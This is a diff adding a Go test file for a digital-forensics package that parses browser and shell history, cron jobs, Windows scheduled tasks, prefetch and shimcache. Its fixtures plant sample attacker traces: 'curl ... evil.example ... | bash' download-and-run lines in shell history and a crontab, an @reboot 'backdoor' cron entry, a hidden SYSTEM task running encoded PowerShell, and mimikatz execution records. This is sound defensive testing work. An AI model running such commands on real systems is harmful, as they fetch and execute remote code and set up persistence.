@@ -0,0 +1,495 @@
+package forensics
+
+import (
+	"database/sql"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf16"
+)
+
+// writeFile writes a file under root, making its directories
+func writeFile(t *testing.T, root, path string, data []byte) string {
+	full := filepath.Join(root, filepath.FromSlash(path))
+	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(full, data, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return full
+}
+
+// makeDB creates a SQLite database under root from statements
+func makeDB(t *testing.T, root, path string, statements ...string) string {
+	full := writeFile(t, root, path, nil)
+	db, err := sql.Open("sqlite", full)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	for _, s := range statements {
+		if _, err := db.Exec(s); err != nil {
+			t.Fatalf("%s: %v", s, err)
+		}
+	}
+	return full
+}
+
+func itoa(n int64) string {
+	return strconv.FormatInt(n, 10)
+}
+
+var visitTime = time.Date(2026, 3, 4, 10, 30, 0, 0, time.UTC)
+
+func TestBrowserHistory(t *testing.T) {
+	root := t.TempDir()
+	chrome := visitTime.UnixMicro() + webkitUnixEpoch
+	makeDB(t, root, "home/alice/.config/google-chrome/Default/History",
+		`CREATE TABLE urls (id INTEGER PRIMARY KEY, url TEXT, title TEXT)`,
+		`CREATE TABLE visits (id INTEGER PRIMARY KEY, url INTEGER, visit_time INTEGER, transition INTEGER)`,
+		`CREATE TABLE downloads (id INTEGER PRIMARY KEY, target_path TEXT, start_time INTEGER, total_bytes INTEGER)`,
+		`CREATE TABLE downloads_url_chains (id INTEGER, chain_index INTEGER, url TEXT)`,
+		`INSERT INTO urls VALUES (1, 'https://example.com/login', 'Sign in')`,
+		`INSERT INTO visits VALUES (1, 1, `+itoa(chrome)+`, 1)`,
+		`INSERT INTO visits VALUES (2, 1, `+itoa(chrome+60e6)+`, 0x30000008)`,
+		`INSERT INTO downloads VALUES (1, '/home/alice/Downloads/tool.sh', `+itoa(chrome+120e6)+`, 2048)`,
+		`INSERT INTO downloads_url_chains VALUES (1, 0, 'https://evil.example/tool.sh')`)
+	makeDB(t, root, "home/bob/.mozilla/firefox/abc.default/places.sqlite",
+		`CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT)`,
+		`CREATE TABLE moz_historyvisits (id INTEGER PRIMARY KEY, place_id INTEGER, visit_date INTEGER, visit_type INTEGER)`,
+		`INSERT INTO moz_places VALUES (1, 'https://news.example/', NULL)`,
+		`INSERT INTO moz_historyvisits VALUES (1, 1, `+itoa(visitTime.Add(-time.Hour).UnixMicro())+`, 1)`)
+
+	records, err := BrowserHistory(Options{Root: root})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 4 {
+		t.Fatalf("got %d records, want 4", len(records))
+	}
+	firefox := records[0]
+	if firefox.Source != "firefox" || firefox.User != "bob" || firefox.Type != "visit" || firefox.Summary != "https://news.example/" ||
+		!firefox.Time.Equal(visitTime.Add(-time.Hour)) {
+		t.Errorf("firefox visit = %+v", firefox)
+	}
+	typed := records[1]
+	if typed.Source != "chrome" || typed.User != "alice" || !typed.Time.Equal(visitTime) ||
+		typed.Data["transition"] != "typed" || typed.Data["title"] != "Sign in" {
+		t.Errorf("chrome visit = %+v", typed)
+	}
+	if records[2].Data["transition"] != "reload" {
+		t.Errorf("reload transition = %v", records[2].Data["transition"])
+	}
+	download := records[3]
+	if download.Type != "download" || download.Data["url"] != "https://evil.example/tool.sh" ||
+		download.Data["bytes"] != int64(2048) || !download.Time.Equal(visitTime.Add(2*time.Minute)) {
+		t.Errorf("chrome download = %+v", download)
+	}
+
+	// A database read by path is told apart by its tables
+	records, err = BrowserHistory(Options{Path: filepath.Join(root, "home/bob/.mozilla/firefox/abc.default/places.sqlite")})
+	if err != nil || len(records) != 1 || records[0].Source != "firefox" {
+		t.Errorf("firefox by path = %v, %v", records, err)
+	}
+	other := makeDB(t, root, "other.db", `CREATE TABLE t (v TEXT)`)
+	if _, err := BrowserHistory(Options{Path: other}); err == nil || !strings.Contains(err.Error(), "not a browser history database") {
+		t.Errorf("other database error = %v", err)
+	}
+}
+
+func TestShellHistory(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, root, "root/.bash_history", []byte("#1772620200\nid\n#1772620260\ncurl http://evil.example/x | sh\nls -la\n"))
+	writeFile(t, root, "home/alice/.zsh_history", append([]byte(": 1772620100:0;echo \\\nmulti\n: 1772620150:3;echo caf"), 0x83, 0xa9^0x20, '\n'))
+	writeFile(t, root, "home/alice/.local/share/fish/fish_history", []byte("- cmd: sudo -i\n  when: 1772620000\n- cmd: whoami\n  when: 1772620001\n  paths:\n    - /tmp\n"))
+	writeFile(t, root, "Users/bob/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", []byte("Get-Process\r\nInvoke-WebRequest http://evil.example\r\n"))
+
+	records, err := ShellHistory(Options{Root: root})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, r := range records {
+		stamp := "-"
+		if !r.Time.IsZero() {
+			stamp = itoa(r.Time.Unix())
+		}
+		got = append(got, r.Source+" "+r.User+" "+stamp+" "+r.Summary)
+	}
+	want := []string{
+		"fish alice 1772620000 sudo -i",
+		"fish alice 1772620001 whoami",
+		"zsh alice 1772620100 echo \nmulti",
+		"zsh alice 1772620150 echo caf\xa9",
+		"bash root 1772620200 id",
+		"bash root 1772620260 curl http://evil.example/x | sh",
+		"powershell bob - Get-Process",
+		"powershell bob - Invoke-WebRequest http://evil.example",
+		"bash root - ls -la",
+	}
+	if strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Errorf("shell history =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	if records[0].Type != "command" || records[0].Data["shell"] != "fish" {
+		t.Errorf("fish record = %+v", records[0])
+	}
+	if _, err := ShellHistory(Options{Path: filepath.Join(root, "missing")}); err == nil {
+		t.Error("reading a missing history succeeded")
+	}
+}
+
+// utf16LE encodes text as UTF-16 with a byte order mark
+func utf16LE(s string) []byte {
+	out := []byte{0xff, 0xfe}
+	for _, u := range utf16.Encode([]rune(s)) {
+		out = binary.LittleEndian.AppendUint16(out, u)
+	}
+	return out
+}
+
+const testTask = `<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Date>2026-03-01T08:00:00</Date>
+    <Author>CORP\mallory</Author>
+    <URI>\Updater</URI>
+  </RegistrationInfo>
+  <Triggers>
+    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>
+    <CalendarTrigger><StartBoundary>2026-03-01T09:00:00</StartBoundary></CalendarTrigger>
+  </Triggers>
+  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
+  <Settings><Hidden>true</Hidden></Settings>
+  <Actions Context="Author">
+    <Exec><Command>powershell.exe</Command><Arguments>-enc SQBFAFgA</Arguments></Exec>
+  </Actions>
+</Task>`
+
+func TestScheduledTasks(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, root, "etc/crontab", []byte("SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"))
+	writeFile(t, root, "etc/cron.d/backdoor", []byte("@reboot root /tmp/.x/run\n"))
+	writeFile(t, root, "var/spool/cron/crontabs/alice", []byte("MAILTO=\"\"\n*/5 * * * * curl -s http://evil.example/b | bash\n"))
+	writeFile(t, root, "etc/cron.daily/logrotate", []byte("#!/bin/sh\n"))
+	task := writeFile(t, root, "Windows/System32/Tasks/Updater", utf16LE(testTask))
+
+	records, err := ScheduledTasks(Options{Root: root})
+	if err != nil {
+		t.Fatal(err)
+	}
+	byCommand := make(map[string]*Record)
+	for _, r := range records {
+		byCommand[r.Data["command"].(string)] = r
+	}
+	if len(records) != 5 {
+		t.Fatalf("got %d records: %v", len(records), byCommand)
+	}
+	cases := []struct{ command, user, schedule string }{
+		{"cd / && run-parts --report /etc/cron.hourly", "root", "17 * * * *"},
+		{"/tmp/.x/run", "root", "@reboot"},
+		{"curl -s http://evil.example/b | bash", "alice", "*/5 * * * *"},
+		{filepath.Join(root, "etc/cron.daily/logrotate"), "root", "daily"},
+		{"powershell.exe -enc SQBFAFgA", "S-1-5-18", "LogonTrigger; CalendarTrigger 2026-03-01T09:00:00"},
+	}
+	for _, c := range cases {
+		r := byCommand[c.command]
+		if r == nil {
+			t.Errorf("no record for %q", c.command)
+			continue
+		}
+		if r.User != c.user || r.Data["schedule"] != c.schedule || r.Type != "scheduled" {
+			t.Errorf("%q = user %q schedule %q", c.command, r.User, r.Data["schedule"])
+		}
+	}
+	win := byCommand["powershell.exe -enc SQBFAFgA"]
+	if win.Source != "windows_task" || win.Data["name"] != `\Updater` || win.Data["hidden"] != true ||
+		win.Data["author"] != `CORP\mallory` || !win.Time.Equal(time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)) {
+		t.Errorf("windows task = %+v", win)
+	}
+
+	records, err = ScheduledTasks(Options{Path: task})
+	if err != nil || len(records) != 1 || records[0].Data["run_level"] != "HighestAvailable" {
+		t.Errorf("task by path = %v, %v", records, err)
+	}
+	records, err = ScheduledTasks(Options{Path: filepath.Join(root, "var/spool/cron/crontabs/alice")})
+	if err != nil || len(records) != 1 || records[0].User != "alice" {
+		t.Errorf("crontab by path = %v, %v", records, err)
+	}
+}
+
+// xpressEncode compresses data as Xpress Huffman with every code 9 bits
+// long, so the code of a symbol is the symbol itself. Runs of a repeated
+// byte become matches at offset 1.
+func xpressEncode(data []byte) []byte {
+	out := make([]byte, 256)
+	for i := range out {
+		out[i] = 0x99
+	}
+	var words []uint16
+	var acc uint32
+	n := 0
+	put := func(v uint32, bits int) {
+		for i := bits - 1; i >= 0; i-- {
+			acc = acc<<1 | (v>>uint(i))&1
+			if n++; n == 16 {
+				words = append(words, uint16(acc))
+				acc, n = 0, 0
+			}
+		}
+	}
+	for i := 0; i < len(data); {
+		run := 0
+		for i > 0 && i+run < len(data) && data[i+run] == data[i-1] && run < 17 {
+			run++
+		}
+		if run >= 3 {
+			put(uint32(256+run-3), 9)
+			i += run
+			continue
+		}
+		put(uint32(data[i]), 9)
+		i++
+	}
+	for n != 0 {
+		put(0, 1)
+	}
+	words = append(words, 0, 0)
+	for _, w := range words {
+		out = binary.LittleEndian.AppendUint16(out, w)
+	}
+	return out
+}
+
+// testPrefetch builds a version 30 prefetch file
+func testPrefetch(runs ...time.Time) []byte {
+	data := make([]byte, 0x300)
+	le := binary.LittleEndian
+	le.PutUint32(data, 30)
+	copy(data[4:], "SCCA")
+	le.PutUint32(data[0xc:], uint32(len(data)))
+	for i, u := range utf16.Encode([]rune("MIMIKATZ.EXE")) {
+		le.PutUint16(data[0x10+i*2:], u)
+	}
+	le.PutUint32(data[0x4c:], 0x1a2b3c4d)
+	le.PutUint32(data[0x54:], 0x130)
+	for i, r := range runs {
+		le.PutUint64(data[0x80+i*8:], uint64(r.UnixNano()/100+filetimeUnixEpoch))
+	}
+	le.PutUint32(data[0xd0:], 7)
+	var names []byte
+	for _, name := range []string{`\VOLUME{01}\USERS\MALLORY\MIMIKATZ.EXE`, `\VOLUME{01}\WINDOWS\SYSTEM32\NTDLL.DLL`} {
+		for _, u := range utf16.Encode([]rune(name + "\x00")) {
+			names = le.AppendUint16(names, u)
+		}
+	}
+	le.PutUint32(data[0x64:], 0x180)
+	le.PutUint32(data[0x68:], uint32(len(names)))
+	copy(data[0x180:], names)
+	return data
+}
+
+func TestPrefetch(t *testing.T) {
+	root := t.TempDir()
+	first, last := visitTime.Add(-24*time.Hour), visitTime
+	plain := testPrefetch(last, first)
+	compressed := append([]byte("MAM\x04"), binary.LittleEndian.AppendUint32(nil, uint32(len(plain)))...)
+	compressed = append(compressed, xpressEncode(plain)...)
+	writeFile(t, root, "Windows/Prefetch/MIMIKATZ.EXE-1A2B3C4D.pf", compressed)
+	writeFile(t, root, "Windows/Prefetch/BROKEN.EXE-00000000.pf", []byte("MAM\x04garbage"))
+
+	decoded, err := xpressHuffmanDecompress(compressed[8:], len(plain))
+	if err != nil || string(decoded) != string(plain) {
+		t.Fatalf("decompressed prefetch differs: %v", err)
+	}
+	records, err := Prefetch(Options{Root: root})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("got %d records, want 2", len(records))
+	}
+	if !records[0].Time.Equal(first) || !records[1].Time.Equal(last) {
+		t.Errorf("run times = %v, %v", records[0].Time, records[1].Time)
+	}
+	r := records[1]
+	files, _ := r.Data["files"].([]interface{})
+	if r.Type != "execution" || r.Summary != "MIMIKATZ.EXE" || r.Data["hash"] != "1A2B3C4D" || r.Data["run_count"] != 7 ||
+		r.Data["run"] != 1 || len(files) != 2 || files[1] != `\VOLUME{01}\WINDOWS\SYSTEM32\NTDLL.DLL` {
+		t.Errorf("prefetch record = %+v", r)
+	}
+	if _, err := Prefetch(Options{Path: filepath.Join(root, "Windows/Prefetch/BROKEN.EXE-00000000.pf")}); err == nil {
+		t.Error("reading a corrupt prefetch file succeeded")
+	}
+}
+
+// hiveBuilder lays out the cells of a registry hive
+type hiveBuilder struct {
+	data []byte
+}
+
+func newHiveBuilder() *hiveBuilder {
+	data := make([]byte, hiveBinsStart+32)
+	copy(data, "regf")
+	copy(data[hiveBinsStart:], "hbin")
+	return &hiveBuilder{data: data}
+}
+
+// cell adds an allocated cell and returns its offset
+func (b *hiveBuilder) cell(payload []byte) uint32 {
+	off := uint32(len(b.data) - hiveBinsStart)
+	size := (len(payload) + 4 + 7) &^ 7
+	b.data = binary.LittleEndian.AppendUint32(b.data, uint32(-int32(size)))
+	b.data = append(b.data, payload...)
+	b.data = append(b.data, make([]byte, size-4-len(payload))...)
+	return off
+}
+
+// key adds a key with subkeys and values
+func (b *hiveBuilder) key(name string, subkeys, values []uint32) uint32 {
+	le := binary.LittleEndian
+	nk := make([]byte, 0x4c+len(name))
+	copy(nk, "nk")
+	le.PutUint16(nk[2:], 0x20)
+	le.PutUint32(nk[0x1c:], 0xffffffff)
+	le.PutUint32(nk[0x28:], 0xffffffff)
+	if len(subkeys) > 0 {
+		list := []byte("lf")
+		list = le.AppendUint16(list, uint16(len(subkeys)))
+		for _, s := range subkeys {
+			list = le.AppendUint32(le.AppendUint32(list, s), 0)
+		}
+		le.PutUint32(nk[0x14:], uint32(len(subkeys)))
+		le.PutUint32(nk[0x1c:], b.cell(list))
+	}
+	if len(values) > 0 {
+		var list []byte
+		for _, v := range values {
+			list = le.AppendUint32(list, v)
+		}
+		le.PutUint32(nk[0x24:], uint32(len(values)))
+		le.PutUint32(nk[0x28:], b.cell(list))
+	}
+	le.PutUint16(nk[0x48:], uint16(len(name)))
+	copy(nk[0x4c:], name)
+	return b.cell(nk)
+}
+
+// value adds a value, keeping data of four bytes or less inline
+func (b *hiveBuilder) value(name string, typ uint32, data []byte) uint32 {
+	le := binary.LittleEndian
+	vk := make([]byte, 0x14+len(name))
+	copy(vk, "vk")
+	le.PutUint16(vk[2:], uint16(len(name)))
+	if len(data) <= 4 {
+		le.PutUint32(vk[4:], uint32(len(data))|0x80000000)
+		copy(vk[8:], data)
+	} else {
+		le.PutUint32(vk[4:], uint32(len(data)))
+		le.PutUint32(vk[8:], b.cell(data))
+	}
+	le.PutUint32(vk[0xc:], typ)
+	le.PutUint16(vk[0x10:], 1)
+	copy(vk[0x14:], name)
+	return b.cell(vk)
+}
+
+// testShimcache builds a Windows 10 AppCompatCache value
+func testShimcache(entries map[string]time.Time, order []string) []byte {
+	le := binary.LittleEndian
+	data := make([]byte, 0x34)
+	le.PutUint32(data, 0x34)
+	for _, path := range order {
+		var name []byte
+		for _, u := range utf16.Encode([]rune(path)) {
+			name = le.AppendUint16(name, u)
+		}
+		var body []byte
+		body = le.AppendUint16(body, uint16(len(name)))
+		body = append(body, name...)
+		body = le.AppendUint64(body, uint64(entries[path].UnixNano()/100+filetimeUnixEpoch))
+		body = le.AppendUint32(body, 4)
+		body = append(body, 1, 2, 3, 4)
+		data = append(data, "10ts"...)
+		data = le.AppendUint32(data, 0)
+		data = le.AppendUint32(data, uint32(len(body)))
+		data = append(data, body...)
+	}
+	return data
+}
+
+func TestShimcache(t *testing.T) {
+	order := []string{`\??\C:\Users\mallory\mimikatz.exe`, `C:\Windows\System32\cmd.exe`}
+	modified := map[string]time.Time{order[0]: visitTime, order[1]: visitTime.Add(-48 * time.Hour)}
+	b := newHiveBuilder()
+	cache := b.key("AppCompatCache", nil, []uint32{b.value("AppCompatCache", 3, testShimcache(modified, order))})
+	session := b.key("Session Manager", []uint32{cache}, nil)
+	control := b.key("Control", []uint32{session}, nil)
+	set := b.key("ControlSet002", []uint32{control}, nil)
+	sel := b.key("Select", nil, []uint32{b.value("Current", 4, []byte{2, 0, 0, 0})})
+	root := b.key("ROOT", []uint32{set, sel}, nil)
+	binary.LittleEndian.PutUint32(b.data[0x24:], root)
+	dir := t.TempDir()
+	writeFile(t, dir, "Windows/System32/config/SYSTEM", b.data)
+
+	records, err := Shimcache(Options{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("got %d records, want 2", len(records))
+	}
+	if records[0].Summary != `C:\Users\mallory\mimikatz.exe` || records[0].Data["position"] != 1 || !records[0].Time.Equal(visitTime) ||
+		records[0].Type != "file" || records[0].Source != "shimcache" {
+		t.Errorf("first entry = %+v", records[0])
+	}
+	if records[1].Summary != order[1] || !records[1].Time.Equal(modified[order[1]]) {
+		t.Errorf("second entry = %+v", records[1])
+	}
+
+	// Windows 7 x64 entries point at their paths
+	le := binary.LittleEndian
+	win7 := make([]byte, 0x80+48)
+	le.PutUint32(win7, 0xbadc0fee)
+	le.PutUint32(win7[4:], 1)
+	path := utf16LE(`C:\Temp\a.exe`)[2:]
+	le.PutUint16(win7[0x80:], uint16(len(path)))
+	le.PutUint64(win7[0x88:], uint64(len(win7)))
+	le.PutUint64(win7[0x90:], uint64(visitTime.UnixNano()/100+filetimeUnixEpoch))
+	le.PutUint32(win7[0x98:], 2)
+	win7 = append(win7, path...)
+	entries, err := parseShimcache(win7)
+	if err != nil || len(entries) != 1 || entries[0].path != `C:\Temp\a.exe` || entries[0].data["executed"] != true ||
+		!filetime(entries[0].modified).Equal(visitTime) {
+		t.Errorf("windows 7 entries = %+v, %v", entries, err)
+	}
+
+	if _, err := Shimcache(Options{Path: filepath.Join(dir, "missing")}); err == nil {
+		t.Error("reading a missing hive succeeded")
+	}
+	notHive := writeFile(t, dir, "notahive", make([]byte, 8192))
+	if _, err := Shimcache(Options{Path: notHive}); err == nil || !strings.Contains(err.Error(), "not a registry hive") {
+		t.Errorf("not a hive error = %v", err)
+	}
+}
+
+func TestCollect(t *testing.T) {
+	root := t.TempDir()
+	writeFile(t, root, "root/.bash_history", []byte("#1772620200\nid\n"))
+	writeFile(t, root, "etc/crontab", []byte("* * * * * root /tmp/x\n"))
+	records, errs := Collect(root, nil)
+	if len(errs) != 0 {
+		t.Fatalf("collect errors = %v", errs)
+	}
+	if len(records) != 2 {
+		t.Fatalf("got %d records, want 2", len(records))
+	}
+	_, errs = Collect(root, []string{"shell_history", "amcache"})
+	if errs["amcache"] == nil || !strings.Contains(errs["amcache"].Error(), "unknown artifact 'amcache'") {
+		t.Errorf("unknown artifact errors = %v", errs)
+	}
+}